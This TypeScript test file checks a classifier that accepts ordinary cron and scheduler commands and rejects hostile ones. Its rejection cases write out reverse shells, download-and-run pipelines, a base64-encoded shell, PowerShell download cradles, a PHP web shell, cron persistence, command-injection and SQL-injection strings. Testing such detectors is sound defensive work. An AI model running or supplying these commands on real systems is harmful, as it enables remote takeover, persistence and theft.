/**
 * A scheduler's job command (the `scheduler-ui` family: a hosting panel's cron `command`, 0.9985 with payload-v1.4)
 * runs the application's own script; a download-and-run, a reverse shell or an encoded command has a shape of its own.
 */
import { describe, expect, it } from 'vitest';
import { bodyHasSchedule, isCrontabFile, isScheduledCommand } from '../../src/model/scheduled-commands.js';

describe('isScheduledCommand', () => {
  it('takes the commands operators schedule', () => {
    for (const t of [
      'php -q /home/acme/public/index.php cron >> /dev/null 2>&1',
      'cd /home/shop/public_html && /usr/local/bin/php artisan schedule:run >> /dev/null 2>&1',
      'mysqldump --single-transaction -u shop shop_db | gzip > /home/shop/backups/shop-$(date +\\%F).sql.gz',
      'tar -czf /srv/blog/backups/htdocs-$(date +%Y%m%d).tar.gz -C /srv/blog htdocs 2>&1 | logger -t blog',
      'wget -q -O - "https://shop.example.com/index.php?option=com_ajax&plugin=cron&format=raw" > /dev/null 2>&1',
      'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5b1e6b2c-1f3a-4c55-9d0e-0a1b2c3d4e5f',
      'certbot renew --quiet --deploy-hook "systemctl reload nginx"',
      '/bin/bash -lc "cd /srv/app/current && bundle exec rake reports:daily RAILS_ENV=production"',
      'docker system prune -af --filter "until=168h" > /dev/null 2>&1',
      '/usr/bin/flock -n /tmp/shop-sync.lock php /srv/shop/bin/console app:sync-stock',
      '#!/bin/sh\n\nfind /srv/app/tmp -type f -mtime +7 -delete\n',
      'powershell.exe -NoProfile -NonInteractive -File C:\\Scripts\\Backup-Database.ps1',
      '/usr/local/bin/backup.sh',
    ]) expect(isScheduledCommand(t), t).toBe(true);
  });

  it('refuses download-and-run, reverse shells, encoded commands and what a probe runs', () => {
    for (const t of [
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'curl -s http://203.0.113.9/x.sh | sh',
      'wget -qO- http://203.0.113.9/m | bash',
      'curl -s -o /tmp/x.sh http://203.0.113.9/x.sh && sh /tmp/x.sh',
      'wget http://203.0.113.9/x.sh && sh x.sh',
      'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ== | base64 -d | bash',
      'nc -e /bin/sh 203.0.113.9 4444',
      'docker run --rm alpine nc -e /bin/sh 203.0.113.9 4444',
      "python3 -c 'import socket,os,pty;s=socket.socket()'",
      'docker exec app python3 -c "print(1)"',
      "php -r 'system($_GET[c]);'",
      "awk 'BEGIN{system(\"id\")}'",
      "echo '* * * * * root curl http://203.0.113.9/x|sh' > /etc/cron.d/x",
      'cat /etc/passwd',
      'id',
      'find / -name x -exec sh {} \\;',
      '/tmp/x',
      'sh /dev/shm/x',
      'x %SystemRoot:~0,1%md /c whoami',
      'test.txt && cmd /c nslookup probe.example',
      'socat tcp:203.0.113.9:4444 exec:sh',
      "convert 'msl:/tmp/x.msl' out.png",
      "x' UNION SELECT * FROM users WHERE '1'='1",
      'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
      "powershell.exe -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
      'php /srv/app/cron.php `id`',
      'php /srv/app/cron.php $(id)',
      '/bin/sh',
    ]) expect(isScheduledCommand(t), t).toBe(false);
  });
});

describe('bodyHasSchedule', () => {
  it('finds a schedule field, or a numeric schedule in a JSON body', () => {
    expect(bodyHasSchedule([{ location: 'body', name: 'minute' }], '')).toBe(true);
    expect(bodyHasSchedule([{ location: 'body', name: 'cronStyle[hour]' }], '')).toBe(true);
    expect(bodyHasSchedule([{ location: 'body', name: '/project/triggers/hudson.triggers.TimerTrigger/spec' }], '')).toBe(true);
    expect(bodyHasSchedule([{ location: 'body', name: 'params.script' }], '{"timing":{"hours":[3]}}')).toBe(true);
    expect(bodyHasSchedule([{ location: 'body', name: 'cmd' }], 'cmd=id')).toBe(false);
  });
});

describe('isCrontabFile', () => {
  const table = (...jobs: string[]): string => ['SHELL=/bin/bash', 'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin', 'MAILTO=""', ...jobs, ''].join('\n');
  it("takes a cron table: cron's variables, a system table's user, nicknames, jobs that are scheduled commands", () => {
    for (const t of [
      table('*/5 * * * * www-data /usr/bin/php /var/www/shop/artisan schedule:run >> /dev/null 2>&1', '0 2 * * 1-5 deploy /opt/shop/bin/cleanup --older-than 7d'),
      table('15 */6 * * 0 node cd /opt/crm && ./venv/bin/python manage.py clearsessions').replace(/\n/g, '\r\n'),
      '# nightly\nMAILTO=ops@example.org\n@daily /usr/local/bin/backup.sh shop > /var/log/backup-shop.log 2>&1\n30 3 * * mon-fri /usr/bin/find /var/www/crm/storage/tmp -type f -mtime +2 -delete\n',
    ])
      expect(isCrontabFile(t), t).toBe(true);
  });
  it('refuses a job that is no scheduled command, read with or without a user, and anything beside the table', () => {
    for (const t of [
      table('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
      table('* * * * * root curl -s http://203.0.113.9/x.sh | sh'),
      table('*/5 * * * * root /tmp/x'),
      table('* * * * * root /usr/bin/wget -q -O /tmp/m http://203.0.113.9/m'),
      table('* * * * * root /usr/bin/php -r "system($_GET[1]);"'),
      table('* * * * * root echo x > /etc/cron.d/y'),
      table('* * * * * root /usr/local/bin/backup.sh %x'),
      table('* * * * * /usr/local/bin/backup.sh', "' UNION SELECT password FROM users--"),
      'SHELL=/bin/bash\nLD_PRELOAD=/tmp/x.so\n* * * * * root /usr/local/bin/backup.sh\n',
      'SHELL=/bin/bash\nPATH=/usr/bin\n',
      'SHELL=/tmp/sh\n* * * * * /usr/local/bin/backup.sh\n',
    ])
      expect(isCrontabFile(t), t).toBe(false);
  });
});
